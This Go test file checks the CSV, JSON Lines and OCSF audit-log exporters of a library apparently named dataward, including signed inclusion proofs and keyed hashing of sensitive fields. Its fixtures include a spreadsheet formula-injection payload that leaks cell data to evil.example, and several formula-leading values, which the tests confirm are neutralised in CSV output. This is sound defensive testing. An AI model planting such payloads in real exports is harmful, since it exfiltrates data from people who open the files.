package audit_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/mod/sumdb/note"
	"golang.org/x/mod/sumdb/tlog"

	"github.com/dataward/dataward"
	"github.com/dataward/dataward/audit"
)

var exportTime = time.Date(2025, 3, 4, 5, 6, 7, 123456000, time.UTC)

// exportLog is a signed log of three events chosen to exercise the report
// formats, and the public key that checks it.
func exportLog(t *testing.T, fields map[audit.Field]audit.Sensitivity) (*audit.Logger, string) {
	t.Helper()
	skey, vkey, err := note.GenerateKey(rand.Reader, "audit.export.test")
	require.NoError(t, err)
	signer, err := note.NewSigner(skey)
	require.NoError(t, err)
	l, err := audit.New(audit.NewMemStore(), &audit.Options{
		HashKey: []byte("0123456789abcdef0123456789abcdef"),
		Signer:  signer,
		Fields:  fields,
		Clock:   dataward.ClockFunc(func() time.Time { return exportTime }),
	})
	require.NoError(t, err)
	t.Cleanup(func() { _ = l.Close(context.Background()) })

	events := []audit.Event{{
		ID: "evt-0", Time: exportTime, Class: "access", Action: "customer.update",
		Actor: audit.Actor{ID: "staff-7", Kind: dataward.ActorUser, Tenant: "acme", Roles: []string{"support", "dpo"},
			SourceIP: "198.51.100.7", UserAgent: `=HYPERLINK("http://evil.example/?"&A1,"click")`},
		Subject:   "cust-42",
		Resource:  audit.Resource{Type: "customer", ID: "cust-42"},
		Changes:   []audit.Change{{Field: "email", Before: "a***@example.com", After: "z***@example.com"}, {Field: "phone", After: "+27 ** *** **34"}},
		RequestID: "req-1", TraceID: "4bf92f3577b34da6a3ce929d0e0e4736",
		Metadata: []audit.Attr{{Key: "channel", Value: "phone"}, {Key: "ticket", Value: "+1+2"}},
	}, {
		ID: "evt-1", Time: exportTime.Add(time.Second), Action: "pii.reveal", Outcome: audit.Denied, Reason: "-1 no consent",
		Actor:    audit.Actor{ID: "@attacker", Kind: dataward.ActorService, SourceIP: "2001:db8::1"},
		Subject:  "cust-42",
		Resource: audit.Resource{Type: "customer", ID: "cust-42"},
	}, {
		ID: "evt-2", Time: exportTime.Add(2 * time.Second), Action: "auth.login", Outcome: audit.Failure,
		Actor: audit.Actor{ID: "\tstaff-9", UserAgent: "curl/8.5"},
	}}
	for _, e := range events {
		require.NoError(t, l.Record(context.Background(), e))
	}
	return l, vkey
}

// readable makes every field Public, so that the reports show the values
// the tests chose.
var readable = map[audit.Field]audit.Sensitivity{
	audit.FieldActorIP: audit.Public, audit.FieldSubject: audit.Public, audit.FieldChanges: audit.Public,
}

func TestWriteCSV(t *testing.T) {
	l, _ := exportLog(t, readable)
	events := allEvents(t, l)
	var buf bytes.Buffer
	require.NoError(t, audit.WriteCSV(&buf, events))

	rows, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4)
	assert.Equal(t, []string{
		"index", "id", "time", "class", "action", "outcome", "reason",
		"actor_id", "actor_kind", "actor_tenant", "actor_roles", "actor_ip", "actor_user_agent",
		"subject", "resource_type", "resource_id", "request_id", "trace_id",
		"changes", "metadata",
	}, rows[0])
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	cell := func(row int, name string) string { return rows[row+1][col[name]] }

	assert.Equal(t, []string{
		"0", "evt-0", "2025-03-04T05:06:07.123456Z", "access", "customer.update", "success", "",
		"staff-7", "user", "acme", "support;dpo", "198.51.100.7", `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"cust-42", "customer", "cust-42", "req-1", "4bf92f3577b34da6a3ce929d0e0e4736",
		`[{"field":"email","before":"a***@example.com","after":"z***@example.com"},{"field":"phone","before":"","after":"+27 ** *** **34"}]`,
		`{"channel":"phone","ticket":"+1+2"}`,
	}, rows[1])

	var changes []map[string]string
	require.NoError(t, json.Unmarshal([]byte(cell(0, "changes")), &changes))
	assert.Equal(t, "z***@example.com", changes[0]["after"])
	var md map[string]string
	require.NoError(t, json.Unmarshal([]byte(cell(0, "metadata")), &md))
	assert.Equal(t, map[string]string{"channel": "phone", "ticket": "+1+2"}, md)

	// Formula injection is neutralised in every column.
	assert.Equal(t, "'@attacker", cell(1, "actor_id"))
	assert.Equal(t, "'-1 no consent", cell(1, "reason"))
	assert.Equal(t, "denied", cell(1, "outcome"))
	assert.Equal(t, "'\tstaff-9", cell(2, "actor_id"))
	assert.Equal(t, "2025-03-04T05:06:09.123456Z", cell(2, "time"))
	assert.Empty(t, cell(2, "changes"), "no changes: an empty cell")
	assert.Empty(t, cell(2, "metadata"))
	for _, row := range rows[1:] {
		for _, c := range row {
			if c != "" {
				assert.NotContains(t, "=+-@\t\r", c[:1], "cell %q", c)
			}
		}
	}
}

func TestWriteCSVEmptyAndErrors(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, audit.WriteCSV(&buf, nil))
	assert.Equal(t, "index,id,time,class,action,outcome,reason,actor_id,actor_kind,actor_tenant,actor_roles,actor_ip,actor_user_agent,subject,resource_type,resource_id,request_id,trace_id,changes,metadata\n", buf.String())

	err := audit.WriteCSV(failingWriter{}, []audit.StoredEvent{{Event: audit.Event{Action: "a"}}})
	require.ErrorIs(t, err, errWrite)
	assert.True(t, strings.HasPrefix(err.Error(), "audit: "), err.Error())
	err = audit.WriteJSONLines(failingWriter{}, []audit.StoredEvent{{Event: audit.Event{Action: "a"}}})
	require.ErrorIs(t, err, errWrite)
	err = audit.WriteOCSF(failingWriter{}, []audit.StoredEvent{{Event: audit.Event{Action: "a"}}})
	require.ErrorIs(t, err, errWrite)
}

var errWrite = errors.New("disk full")

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errWrite }

// jsonLine mirrors the documented fields of WriteJSONLines, as a consumer
// would declare them.
type jsonLine struct {
	Index   int64  `json:"index"`
	ID      string `json:"id"`
	Time    string `json:"time"`
	Class   string `json:"class"`
	Action  string `json:"action"`
	Outcome string `json:"outcome"`
	Reason  string `json:"reason"`
	Actor   struct {
		ID        string   `json:"id"`
		Kind      string   `json:"kind"`
		Tenant    string   `json:"tenant"`
		Roles     []string `json:"roles"`
		IP        string   `json:"ip"`
		UserAgent string   `json:"user_agent"`
	} `json:"actor"`
	Subject  string `json:"subject"`
	Resource struct {
		Type string `json:"type"`
		ID   string `json:"id"`
	} `json:"resource"`
	Changes []struct {
		Field  string `json:"field"`
		Before string `json:"before"`
		After  string `json:"after"`
	} `json:"changes"`
	RequestID string            `json:"request_id"`
	TraceID   string            `json:"trace_id"`
	Metadata  map[string]string `json:"metadata"`
	Data      []byte            `json:"data"`
	Proof     tlog.RecordProof  `json:"proof"`
}

func readLines[T any](t *testing.T, b []byte) []T {
	t.Helper()
	var out []T
	sc := bufio.NewScanner(bytes.NewReader(b))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var v T
		dec := json.NewDecoder(bytes.NewReader(sc.Bytes()))
		require.NoError(t, dec.Decode(&v), sc.Text())
		out = append(out, v)
	}
	require.NoError(t, sc.Err())
	return out
}

func TestWriteJSONLines(t *testing.T) {
	l, _ := exportLog(t, readable)
	var buf bytes.Buffer
	require.NoError(t, audit.WriteJSONLines(&buf, allEvents(t, l)))
	assert.Equal(t, 3, bytes.Count(buf.Bytes(), []byte("\n")), "one line per event")

	lines := readLines[jsonLine](t, buf.Bytes())
	require.Len(t, lines, 3)
	e := lines[0]
	assert.Equal(t, int64(0), e.Index)
	assert.Equal(t, "evt-0", e.ID)
	assert.Equal(t, "2025-03-04T05:06:07.123456Z", e.Time)
	assert.Equal(t, "access", e.Class)
	assert.Equal(t, "customer.update", e.Action)
	assert.Equal(t, "success", e.Outcome)
	assert.Equal(t, "staff-7", e.Actor.ID)
	assert.Equal(t, "user", e.Actor.Kind)
	assert.Equal(t, "acme", e.Actor.Tenant)
	assert.Equal(t, []string{"support", "dpo"}, e.Actor.Roles)
	assert.Equal(t, "198.51.100.7", e.Actor.IP)
	assert.Equal(t, `=HYPERLINK("http://evil.example/?"&A1,"click")`, e.Actor.UserAgent, "JSON is exact: no neutralising")
	assert.Equal(t, "cust-42", e.Subject)
	assert.Equal(t, "customer", e.Resource.Type)
	assert.Equal(t, "cust-42", e.Resource.ID)
	require.Len(t, e.Changes, 2)
	assert.Equal(t, "phone", e.Changes[1].Field)
	assert.Equal(t, "+27 ** *** **34", e.Changes[1].After)
	assert.Equal(t, "req-1", e.RequestID)
	assert.Equal(t, "4bf92f3577b34da6a3ce929d0e0e4736", e.TraceID)
	assert.Equal(t, map[string]string{"channel": "phone", "ticket": "+1+2"}, e.Metadata)
	assert.NotEmpty(t, e.Data)
	assert.Nil(t, e.Proof, "no proof asked for")
	assert.NotContains(t, buf.String(), `"proof"`)
	assert.Equal(t, "denied", lines[1].Outcome)
	assert.Equal(t, "-1 no consent", lines[1].Reason)

	// Empty fields are left out.
	var raw map[string]any
	require.NoError(t, json.Unmarshal(bytes.Split(buf.Bytes(), []byte("\n"))[2], &raw))
	for _, k := range []string{"class", "reason", "subject", "resource", "changes", "metadata", "request_id", "trace_id", "proof"} {
		assert.NotContains(t, raw, k)
	}
	for _, k := range []string{"index", "id", "time", "action", "outcome", "actor", "data"} {
		assert.Contains(t, raw, k)
	}
}

// A line of the report is all a third party needs, with the signed
// checkpoint and the public key, to check that the event is in the log.
func TestWriteJSONLinesProofVerifies(t *testing.T) {
	l, publicKey := exportLog(t, nil)
	c, err := l.Checkpoint(context.Background())
	require.NoError(t, err)
	events, _, err := l.Query(context.Background(), audit.Query{Proofs: true, Checkpoint: &c})
	require.NoError(t, err)
	var buf bytes.Buffer
	require.NoError(t, audit.WriteJSONLines(&buf, events))

	lines := readLines[jsonLine](t, buf.Bytes())
	require.Len(t, lines, 3)
	assert.True(t, strings.HasPrefix(lines[0].Subject, audit.HashPrefix), "by default the subject is a keyed hash")
	for _, line := range lines {
		require.NotEmpty(t, line.Proof)
		require.NoError(t, audit.CheckInclusion(publicKey, c.Note, line.Index, line.Data, line.Proof))
		if line.Actor.IP != "" {
			assert.True(t, strings.HasPrefix(line.Actor.IP, audit.HashPrefix), "by default the address is a keyed hash")
		}
		assert.NotContains(t, string(line.Data), "198.51.100.7", "the encoding holds no clear address")
		assert.NotContains(t, string(line.Data), "a***@example.com", "nor the changes")
	}
	// A line changed after the fact no longer verifies.
	bad := lines[1]
	bad.Data = append([]byte(nil), bad.Data...)
	bad.Data[len(bad.Data)-1] ^= 1
	assert.ErrorIs(t, audit.CheckInclusion(publicKey, c.Note, bad.Index, bad.Data, bad.Proof), audit.ErrProof)
	assert.ErrorIs(t, audit.CheckInclusion(publicKey, c.Note, bad.Index, lines[0].Data, bad.Proof), audit.ErrProof)
}

func TestWriteOCSF(t *testing.T) {
	l, _ := exportLog(t, map[audit.Field]audit.Sensitivity{audit.FieldChanges: audit.Public})
	var buf bytes.Buffer
	require.NoError(t, audit.WriteOCSF(&buf, allEvents(t, l)))
	lines := readLines[map[string]any](t, buf.Bytes())
	require.Len(t, lines, 3)

	// get follows a dotted path through decoded JSON.
	get := func(m map[string]any, path string) any {
		var v any = m
		for _, k := range strings.Split(path, ".") {
			obj, ok := v.(map[string]any)
			if !ok {
				return nil
			}
			v = obj[k]
		}
		return v
	}
	update, reveal, login := lines[0], lines[1], lines[2]
	for _, e := range lines {
		assert.EqualValues(t, 6003, get(e, "class_uid"))
		assert.EqualValues(t, 6, get(e, "category_uid"))
		assert.EqualValues(t, 1, get(e, "severity_id"))
		assert.Equal(t, "1.3.0", get(e, "metadata.version"))
		assert.Equal(t, "dataward", get(e, "metadata.product.name"))
		assert.Equal(t, "dataward", get(e, "metadata.product.vendor_name"))
		assert.EqualValues(t, 6003*100+get(e, "activity_id").(float64), get(e, "type_uid"))
	}

	assert.EqualValues(t, 3, get(update, "activity_id"), "update")
	assert.EqualValues(t, 600303, get(update, "type_uid"))
	assert.Equal(t, "Update", get(update, "activity_name"))
	assert.EqualValues(t, exportTime.UnixMilli(), get(update, "time"))
	assert.Equal(t, "Success", get(update, "status"))
	assert.EqualValues(t, 1, get(update, "status_id"))
	assert.Nil(t, get(update, "status_detail"))
	assert.Equal(t, "staff-7", get(update, "actor.user.uid"))
	assert.Equal(t, "user", get(update, "actor.user.type"))
	assert.EqualValues(t, 1, get(update, "actor.user.type_id"))
	assert.Nil(t, get(update, "src_endpoint.ip"), "the address is a keyed hash by default, not an IP")
	assert.Contains(t, get(update, "unmapped.actor_ip"), audit.HashPrefix)
	assert.Equal(t, `=HYPERLINK("http://evil.example/?"&A1,"click")`, get(update, "http_request.user_agent"))
	assert.Equal(t, "customer.update", get(update, "api.operation"))
	assert.Equal(t, "req-1", get(update, "api.request.uid"))
	assert.Equal(t, []any{map[string]any{"type": "customer", "uid": "cust-42"}}, get(update, "resources"))
	assert.Equal(t, "evt-0", get(update, "metadata.uid"))
	assert.Equal(t, "4bf92f3577b34da6a3ce929d0e0e4736", get(update, "metadata.correlation_uid"))
	assert.EqualValues(t, 0, get(update, "unmapped.index"))
	assert.Equal(t, "access", get(update, "unmapped.class"))
	assert.Equal(t, "acme", get(update, "unmapped.actor_tenant"))
	assert.Equal(t, []any{"support", "dpo"}, get(update, "unmapped.actor_roles"))
	assert.Contains(t, get(update, "unmapped.subject"), audit.HashPrefix)
	assert.Equal(t, map[string]any{"channel": "phone", "ticket": "+1+2"}, get(update, "unmapped.metadata"))
	assert.Equal(t, []any{
		map[string]any{"field": "email", "before": "a***@example.com", "after": "z***@example.com"},
		map[string]any{"field": "phone", "before": "", "after": "+27 ** *** **34"},
	}, get(update, "unmapped.changes"))

	assert.EqualValues(t, 2, get(reveal, "activity_id"), "reveal reads")
	assert.Equal(t, "Failure", get(reveal, "status"))
	assert.EqualValues(t, 2, get(reveal, "status_id"))
	assert.Equal(t, "denied", get(reveal, "status_detail"))
	assert.Equal(t, "-1 no consent", get(reveal, "unmapped.reason"))
	assert.EqualValues(t, 99, get(reveal, "actor.user.type_id"), "a service")
	assert.EqualValues(t, 1000, get(reveal, "time").(float64)-get(update, "time").(float64))

	assert.EqualValues(t, 99, get(login, "activity_id"), "login: other")
	assert.EqualValues(t, 600399, get(login, "type_uid"))
	assert.Equal(t, "Failure", get(login, "status"))
	assert.Nil(t, get(login, "status_detail"))
	assert.EqualValues(t, 0, get(login, "actor.user.type_id"), "no kind: unknown")
	assert.Nil(t, get(login, "resources"))
	assert.Nil(t, get(login, "api.request"))
	assert.NotNil(t, get(login, "src_endpoint"), "required by the class, even when empty")
}

func TestWriteOCSFKeepsPublicAddresses(t *testing.T) {
	l, _ := exportLog(t, readable)
	var buf bytes.Buffer
	require.NoError(t, audit.WriteOCSF(&buf, allEvents(t, l)))
	lines := readLines[struct {
		SrcEndpoint struct {
			IP string `json:"ip"`
		} `json:"src_endpoint"`
	}](t, buf.Bytes())
	assert.Equal(t, "198.51.100.7", lines[0].SrcEndpoint.IP)
	assert.Equal(t, "2001:db8::1", lines[1].SrcEndpoint.IP)
	assert.Empty(t, lines[2].SrcEndpoint.IP)
}
